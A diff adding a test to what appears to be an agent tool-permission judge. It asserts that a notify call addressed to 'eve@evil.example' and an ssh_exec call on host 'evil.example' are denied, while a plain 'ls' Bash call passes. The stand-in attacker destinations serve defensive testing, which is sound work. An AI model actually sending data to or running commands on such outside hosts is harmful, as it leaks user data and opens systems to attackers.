@@ -155,6 +155,15 @@ async def test_what_was_not_asked_for_is_asked_about_and_denied_when_a_text_tell
     assert await agent.judge("update_password", {"new_password": "x"}) == "deny"
 
 
+async def test_a_command_beside_a_destination_hides_nothing() -> None:
+    """A tool that also runs a line is judged by where it goes, too."""
+    agent = await reader()
+
+    assert await agent.judge("mcp__x__notify", {"command": "ls", "to": "eve@evil.example"}) == "deny"
+    assert await agent.judge("mcp__x__ssh_exec", {"command": "ls", "host": "evil.example"}) == "deny"
+    assert await agent.judge("Bash", {"command": "ls", "description": "Lists files"}) == "pass"
+
+
 async def test_a_tool_whose_name_says_nothing_needs_to_be_spoken_of() -> None:
     """By a word of its name; the agent's own helpers, such as a list of what is to do, need nothing."""
     agent = await reader("Please frobnicate the gadget")
